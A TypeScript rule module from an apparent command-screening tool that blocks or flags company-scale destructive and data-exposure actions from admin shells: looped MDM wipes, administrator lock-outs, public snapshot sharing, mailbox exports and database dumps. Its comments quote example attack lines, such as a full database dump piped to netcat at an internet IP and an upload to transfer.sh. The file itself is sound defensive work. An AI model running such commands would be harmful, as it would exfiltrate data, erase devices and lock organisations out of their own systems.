/**
 * Damage at company scale from one admin shell, the reason RMM consoles are attacked at all:
 *
 * - impact: managed devices wiped one after another through the MDM (Intune, Jamf, Kandji; block — wiping the one
 *   lost laptop is ordinary); the members of an administrators' group disabled or given new passwords in one go
 *   (lock-out; flag);
 * - data exposure: disk snapshots, images and database snapshots shared with another account or with everyone, a
 *   disk's download URL handed to a copy tool, a mailbox exported to a share on an internet address, a database dump
 *   piped to a network tool (block); storage
 *   made public and the results of a mailbox search exported (flag).
 *
 * Reading the same things (`Get-MgDeviceManagementManagedDevice`, `aws ec2 describe-snapshots`, `Get-ADGroupMember`)
 * stays allowed, and so does a single account disabled or reset by name.
 */
import type { Document, SimpleCommand, Word } from '../analysis/document';
import { pipelineNeighbours } from '../analysis/semantics';
import { isPrivateOrLocal, parseIp } from '../destinations/ip';
import {
  ChecksByName,
  DocumentCache,
  FindingCollector,
  argLowers,
  commandWord,
  hasVerbs,
  optionValue,
  setFalse,
  switchOn,
  type FindingSpec,
  type Invocation,
} from './command-match';
import { PRIVILEGED_GROUPS } from './persistence';
import type { RuleContext, RuleFamily } from './rule';

export const impactRules: RuleFamily = (doc: Document, _ctx: RuleContext) => {
  const out = new FindingCollector();
  CHECKS.runOver(doc, out);
  return out.findings;
};

const TRUST_REMEDY = 'A supervisor can grant extended trust for the change.';

function impact(ruleId: string, message: string, severity: 'block' | 'flag'): FindingSpec {
  return severity === 'block'
    ? { code: 'impact', ruleId, standard: 'block', extended: 'flag', message, remedy: TRUST_REMEDY }
    : { code: 'impact', ruleId, standard: 'flag', extended: 'flag', message: `${message} Recorded for review.` };
}

function exposure(ruleId: string, message: string, severity: 'block' | 'flag'): FindingSpec {
  return severity === 'block'
    ? { code: 'data_exposure', ruleId, standard: 'block', extended: 'flag', message, remedy: TRUST_REMEDY }
    : { code: 'data_exposure', ruleId, standard: 'flag', extended: 'flag', message: `${message} Recorded for review.` };
}

// ---------------------------------------------------------------------------------------------
// Repetition: a command run once per item of a list

/** PowerShell loops whose body runs once per item (`foreach` statements resolve to foreach-object). */
const LOOPS: ReadonlySet<string> = new Set(['foreach-object', 'for', 'while', 'do']);
/** How far up the nesting a loop is looked for. */
const MAX_LOOP_DEPTH = 8;

/** POSIX loop variables of the text: `for NAME in …`, `while read [-r] NAME`. */
const POSIX_LOOP_VARIABLES = new DocumentCache((doc: Document): ReadonlySet<string> => {
  const names = new Set<string>();
  for (const layer of doc.layers) {
    if (layer.shell === 'powershell' || layer.shell === 'cmd') continue;
    for (const m of layer.lower.matchAll(/\bfor\s+([a-z_][a-z0-9_]*)\s+in\b/g)) names.add(m[1] as string);
    for (const m of layer.lower.matchAll(/\bread\s+(?:-r\s+)?([a-z_][a-z0-9_]*)/g)) names.add(m[1] as string);
  }
  return names;
});

/** A cmd `for` variable (`%a`, `%%i`), not an environment variable (`%USERNAME%`). */
const CMD_FOR_VARIABLE = /%%?[a-z](?![a-z0-9_%])/;

function usesLoopVariable(w: Word, doc: Document, shell: SimpleCommand['shell']): boolean {
  if (shell === 'cmd') return CMD_FOR_VARIABLE.test(w.lower);
  if (shell === 'powershell') return w.lower.startsWith('$_') || w.lower.startsWith('$psitem');
  // `xargs -I{} …`, `find … -exec … {} ;`, `parallel … {}`: the placeholder of a command run once per item.
  if (w.lower.includes('{}')) return true;
  if (!w.lower.includes('$')) return false;
  const loops = POSIX_LOOP_VARIABLES.of(doc);
  for (const m of w.lower.matchAll(/\$\{?([a-z_][a-z0-9_]*)/g)) if (loops.has(m[1] as string)) return true;
  return false;
}

/** The command runs once per item: inside a loop, fed by a PowerShell pipeline, or given a loop variable or placeholder. */
function repeated(inv: Invocation, doc: Document): boolean {
  const c = inv.command;
  if (c.shell === 'powershell' && c.position > 0) return true;
  let parent = c.parent;
  for (let depth = 0; parent !== undefined && depth < MAX_LOOP_DEPTH; depth++) {
    const p = doc.commands[parent];
    if (p === undefined) break;
    if (LOOPS.has(p.name)) return true;
    parent = p.parent;
  }
  return inv.args.some((w) => usesLoopVariable(w, doc, c.shell));
}

// ---------------------------------------------------------------------------------------------
// Devices wiped through the MDM

const WIPE_CMDLETS: ReadonlySet<string> = new Set([
  'invoke-mgwipedevicemanagementmanageddevice',
  'invoke-mgbetawipedevicemanagementmanageddevice',
  'invoke-mgretiredevicemanagementmanageddevice',
  'invoke-mgbetaretiredevicemanagementmanageddevice',
  'invoke-mgcleanwindowsdevicemanagementmanageddevice',
  'invoke-mgbetacleanwindowsdevicemanagementmanageddevice',
]);
const HTTP_CLIENTS: ReadonlySet<string> = new Set([
  'curl',
  'wget',
  'http',
  'invoke-restmethod',
  'invoke-webrequest',
  'invoke-mggraphrequest',
]);

/**
 * MDM API calls that erase a device: Intune's `managedDevices/{id}/wipe` (and retire, fresh start), Jamf's
 * `EraseDevice` command and `ERASE_DEVICE` MDM command, Kandji's `action/erase`.
 */
function wipeRequest(inv: Invocation): Word | undefined {
  return inv.args.find((w) => {
    const l = w.lower;
    return (
      l.includes('erasedevice') ||
      l.includes('erase_device') ||
      l.includes('/action/erase') ||
      /manageddevices\/[^\s/]*\/(?:wipe|retire|cleanwindowsdevice)\b/.test(l)
    );
  });
}

function checkDeviceWipe(inv: Invocation, out: FindingCollector, doc: Document): void {
  const target = WIPE_CMDLETS.has(inv.name) ? commandWord(inv) : HTTP_CLIENTS.has(inv.name) ? wipeRequest(inv) : undefined;
  if (target === undefined) return;
  // Wiping the one laptop that was lost is a technician's work; the same call over a list erases the company.
  if (!repeated(inv, doc)) return;
  out.add(
    impact('impact.device-wipe', `${inv.name} erases managed devices one after another: every device of the list is wiped.`, 'block'),
    [commandWord(inv), target],
  );
}

// ---------------------------------------------------------------------------------------------
// Administrators locked out

/** Administrator roles of Entra ID, listed the way role member cmdlets name them. */
const ADMIN_ROLES = ['global administrator', 'company administrator', 'privileged role administrator'];

/** Commands that list the members of a group or role (Entra roles are looked up by name first). */
const MEMBER_LISTERS: ReadonlySet<string> = new Set([
  'get-adgroupmember',
  'get-localgroupmember',
  'get-mgdirectoryrole',
  'get-mgdirectoryrolemember',
  'get-azureaddirectoryrole',
  'get-azureaddirectoryrolemember',
  'get-msolrolemember',
  'getent',
  'members',
]);
const POSIX_ADMIN_GROUPS: ReadonlySet<string> = new Set(['sudo', 'wheel', 'admin']);

function listsAdministrators(c: SimpleCommand): boolean {
  const listsMembers =
    MEMBER_LISTERS.has(c.name) || (c.name === 'net' && (c.words[1]?.lower === 'group' || c.words[1]?.lower === 'localgroup'));
  if (!listsMembers) return false;
  for (let i = 1; i < c.words.length; i++) {
    const v = (c.words[i] as Word).lower.replace(/["']/g, '');
    if (PRIVILEGED_GROUPS.includes(v) || POSIX_ADMIN_GROUPS.has(v) || ADMIN_ROLES.some((r) => v.includes(r))) return true;
  }
  return false;
}

/** Whether the text lists the members of an administrators' group or role anywhere. */
const LISTS_ADMINISTRATORS = new DocumentCache((doc: Document): boolean => doc.commands.some(listsAdministrators));

/**
 * The account an invocation disables or resets, when it is one: `Disable-ADAccount x`, `Set-ADAccountPassword x
 * -Reset`, `Set-ADUser x -Enabled $false`, `Disable-LocalUser x`, `Update-MgUser -UserId x -AccountEnabled:$false`,
 * `net user x /active:no`, `usermod -L x`, `passwd -l x`. `null` when the account comes from the pipeline.
 */
function lockedAccount(inv: Invocation): Word | null | undefined {
  const n = inv.name;
  const lowers = argLowers(inv);
  const identity = () =>
    optionValue(inv.args, 'identity', 'userid', 'objectid', 'userprincipalname', 'name') ?? firstPositional(inv) ?? null;
  switch (n) {
    case 'disable-adaccount':
    case 'disable-localuser':
      return identity();
    case 'set-adaccountpassword':
      return lowers.includes('-reset') ? identity() : undefined;
    case 'set-localuser':
      return optionValue(inv.args, 'password') !== undefined ? identity() : undefined;
    case 'set-aduser':
      return setFalse(inv, 'enabled') !== undefined ? identity() : undefined;
    case 'update-mguser':
    case 'set-azureaduser':
      return setFalse(inv, 'accountenabled') !== undefined ? identity() : undefined;
    case 'set-msoluser':
      return switchOn(inv, 'blockcredential') ? identity() : undefined;
    case 'net':
      return lowers[0] === 'user' && lowers.some((l) => l === '/active:no') ? (inv.args[1] ?? null) : undefined;
    case 'usermod':
      return lowers.includes('-l') || lowers.includes('--lock') ? (inv.args[inv.args.length - 1] ?? null) : undefined;
    case 'passwd':
      return lowers.includes('-l') || lowers.includes('--lock') ? (inv.args[inv.args.length - 1] ?? null) : undefined;
    default:
      return undefined;
  }
}

function firstPositional(inv: Invocation): Word | undefined {
  return inv.args.find((w) => !w.lower.startsWith('-'));
}

const LOCKERS = [
  'disable-adaccount',
  'disable-localuser',
  'set-adaccountpassword',
  'set-localuser',
  'set-aduser',
  'update-mguser',
  'set-azureaduser',
  'set-msoluser',
  'net',
  'usermod',
  'passwd',
];

/**
 * Accounts disabled or reset one after another while the text lists an administrators' group or role
 * (`Get-ADGroupMember 'Domain Admins' | Disable-ADAccount`, `for /f … in ('net group "Domain Admins"') do net user %a
 * /active:no`): the owners are locked out of their own domain, the lock-out step of ransomware and sabotage.
 */
function checkAdministratorLockout(inv: Invocation, out: FindingCollector, doc: Document): void {
  const account = lockedAccount(inv);
  if (account === undefined) return;
  // An account named in the text is a technician's everyday work; a computed one may be every administrator.
  const computed = account === null || account.lower.includes('$') || account.lower.includes('%') || repeated(inv, doc);
  if (!computed || !LISTS_ADMINISTRATORS.of(doc)) return;
  out.add(
    impact(
      'impact.admin-lockout',
      `${inv.name} disables or resets accounts taken from the list of an administrators' group: the owners can be locked out of their own systems.`,
      'flag',
    ),
    [commandWord(inv)],
  );
}

// ---------------------------------------------------------------------------------------------
// Snapshots, images and storage shared outside

/** `allUsers` / `allAuthenticatedUsers` (Google), `"Principal":"*"` / `{"AWS":"*"}` (AWS): anyone at all. */
function namesEveryone(text: string): boolean {
  return text.includes('allusers') || text.includes('allauthenticatedusers') || /"principal"\s*:\s*(?:\{\s*"aws"\s*:\s*)?"\*"/.test(text);
}

/** Copy tools a disk's download URL can be handed to. */
const COPIERS: ReadonlySet<string> = new Set(['azcopy', 'xargs', 'curl', 'wget', 'start-azstorageblobcopy', 'invoke-webrequest']);

function checkSharedData(inv: Invocation, out: FindingCollector): void {
  const n = inv.name;
  const text = argLowers(inv).join(' ');
  const word = commandWord(inv);
  if (n === 'aws') {
    if (
      (hasVerbs(inv, ['ec2', 'modify-snapshot-attribute']) &&
        (text.includes('createvolumepermission') || text.includes('--create-volume-permission'))) ||
      (hasVerbs(inv, ['ec2', 'modify-image-attribute']) && text.includes('launch'))
    ) {
      if (text.includes('--operation-type add') || text.includes('add=') || text.includes('--user-ids') || text.includes('--group-names'))
        out.add(
          exposure(
            'exposure.snapshot-shared',
            'aws shares a disk snapshot or machine image with another account or with everyone.',
            'block',
          ),
          [word],
        );
    } else if (
      (hasVerbs(inv, ['rds', 'modify-db-snapshot-attribute']) || hasVerbs(inv, ['rds', 'modify-db-cluster-snapshot-attribute'])) &&
      text.includes('--values-to-add')
    ) {
      out.add(exposure('exposure.snapshot-shared', 'aws lets another account or everyone restore a database snapshot.', 'block'), [word]);
    } else if (hasVerbs(inv, ['s3api', 'delete-public-access-block']) || hasVerbs(inv, ['s3control', 'delete-public-access-block'])) {
      out.add(exposure('exposure.storage-public', 'aws removes the block on public access to S3 storage.', 'flag'), [word]);
    } else if (
      (hasVerbs(inv, ['s3api', 'put-bucket-policy']) && namesEveryone(text)) ||
      ((hasVerbs(inv, ['s3api', 'put-bucket-acl']) || hasVerbs(inv, ['s3api', 'put-object-acl'])) &&
        (/--acl public-read|--acl authenticated-read/.test(text) || namesEveryone(text)))
    ) {
      out.add(exposure('exposure.storage-public', 'aws makes an S3 bucket or object readable by everyone.', 'flag'), [word]);
    }
    return;
  }
  if (n === 'gcloud' || n === 'gsutil') {
    const binds =
      (n === 'gcloud' && argLowers(inv).includes('add-iam-policy-binding')) ||
      (n === 'gsutil' && (hasVerbs(inv, ['iam', 'ch']) || hasVerbs(inv, ['acl', 'ch'])));
    if (!binds || !namesEveryone(text)) return;
    const disk = n === 'gcloud' && hasVerbs(inv, ['compute']) && /\b(?:images|snapshots|disks|machine-images)\b/.test(text);
    if (disk)
      out.add(exposure('exposure.snapshot-shared', 'gcloud shares a disk image or snapshot with every Google account.', 'block'), [word]);
    else out.add(exposure('exposure.storage-public', `${n} grants access to everyone on the internet.`, 'flag'), [word]);
    return;
  }
  if (n === 'az') {
    if (hasVerbs(inv, ['storage', 'account']) && optionValue(inv.args, 'allow-blob-public-access')?.lower === 'true')
      out.add(exposure('exposure.storage-public', 'az allows public access to the blobs of a storage account.', 'flag'), [word]);
    else if (hasVerbs(inv, ['storage', 'container']) && ['blob', 'container'].includes(optionValue(inv.args, 'public-access')?.lower ?? ''))
      out.add(exposure('exposure.storage-public', 'az makes a storage container readable by everyone.', 'flag'), [word]);
    return;
  }
  if (n === 'set-azstoragecontaineracl' || n === 'new-azstoragecontainer') {
    if (['blob', 'container'].includes(optionValue(inv.args, 'permission', 'publicaccess')?.lower ?? ''))
      out.add(exposure('exposure.storage-public', `${n} makes a storage container readable by everyone.`, 'flag'), [word]);
  }
}

/**
 * `az snapshot grant-access`, `az disk grant-access`, `Grant-AzSnapshotAccess`, `Grant-AzDiskAccess`: a URL anyone can
 * download the whole disk from. Handed straight to a copy tool, the disk is being taken elsewhere.
 */
function checkDiskAccessUrl(inv: Invocation, out: FindingCollector, doc: Document): void {
  const grants =
    (inv.name === 'az' && (hasVerbs(inv, ['snapshot', 'grant-access']) || hasVerbs(inv, ['disk', 'grant-access']))) ||
    inv.name === 'grant-azsnapshotaccess' ||
    inv.name === 'grant-azdiskaccess';
  if (!grants) return;
  const copier = pipelineNeighbours(doc, inv.command, 'after').find((c) => COPIERS.has(c.name));
  if (copier !== undefined)
    out.add(
      exposure('exposure.disk-copied', `${inv.name} creates a download URL for a whole disk and ${copier.name} copies it away.`, 'block'),
      [commandWord(inv), copier.words[0]],
    );
  else
    out.add(exposure('exposure.disk-url', `${inv.name} creates a URL anyone holding it can download the whole disk from.`, 'flag'), [
      commandWord(inv),
    ]);
}

// ---------------------------------------------------------------------------------------------
// Databases dumped to the network

/** Tools that write a whole database to their output. */
const DUMPERS: ReadonlySet<string> = new Set(['mysqldump', 'mariadb-dump', 'pg_dump', 'pg_dumpall', 'mongodump', 'mongoexport']);
/** Programs that send what they read to another host without authenticating it (`ssh`/`scp` to a backup host are ordinary). */
const RAW_SENDERS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'socat', 'curl', 'wget']);

/** `mysqldump --all-databases | nc 185.243.115.40 9001`, `pg_dump erp | gzip | curl --upload-file - https://transfer.sh/x`. */
function checkDumpSent(inv: Invocation, out: FindingCollector, doc: Document): void {
  const sender = pipelineNeighbours(doc, inv.command, 'after', 4).find((c) => RAW_SENDERS.has(c.name));
  if (sender === undefined) return;
  out.add(
    exposure(
      'exposure.db-dump-sent',
      `${inv.name} dumps a database straight into ${sender.name}, which sends it to another host.`,
      'block',
    ),
    [commandWord(inv), sender.words[0]],
  );
}

// ---------------------------------------------------------------------------------------------
// Mail exported

/** The host of a UNC path (`\\host\share\…`), lower case. */
function uncHost(path: string): string | undefined {
  const m = /^\\\\([^\\/]+)[\\/]/.exec(path.replace(/^["']/, ''));
  return m?.[1];
}

/**
 * `New-MailboxExportRequest -FilePath \\185.193.88.14\upl\x.pst`: a whole mailbox written to a share on an internet
 * address (block; a leaver's mailbox exported to the company's file server is ordinary offboarding), and
 * `New-ComplianceSearchAction -Export`: the mail a content search found, exported (flag).
 */
function checkMailExport(inv: Invocation, out: FindingCollector): void {
  if (inv.name === 'new-compliancesearchaction') {
    if (argLowers(inv).includes('-export'))
      out.add(exposure('exposure.mail-export', 'New-ComplianceSearchAction exports the mail a content search found.', 'flag'), [
        commandWord(inv),
      ]);
    return;
  }
  const path = optionValue(inv.args, 'filepath');
  const host = path === undefined ? undefined : uncHost(path.lower);
  const ip = host === undefined ? null : parseIp(host);
  if (ip !== null && !isPrivateOrLocal(ip))
    out.add(
      exposure(
        'exposure.mail-export',
        `New-MailboxExportRequest writes a whole mailbox to a share on an internet address (${host}).`,
        'block',
      ),
      [commandWord(inv), path],
    );
}

// ---------------------------------------------------------------------------------------------

const CHECKS = new ChecksByName([
  { check: checkDeviceWipe, names: [...WIPE_CMDLETS, ...HTTP_CLIENTS] },
  { check: checkAdministratorLockout, names: LOCKERS },
  { check: checkSharedData, names: ['aws', 'gcloud', 'gsutil', 'az', 'set-azstoragecontaineracl', 'new-azstoragecontainer'] },
  { check: checkDiskAccessUrl, names: ['az', 'grant-azsnapshotaccess', 'grant-azdiskaccess'] },
  { check: checkMailExport, names: ['new-mailboxexportrequest', 'new-compliancesearchaction'] },
  { check: checkDumpSent, names: [...DUMPERS] },
]);
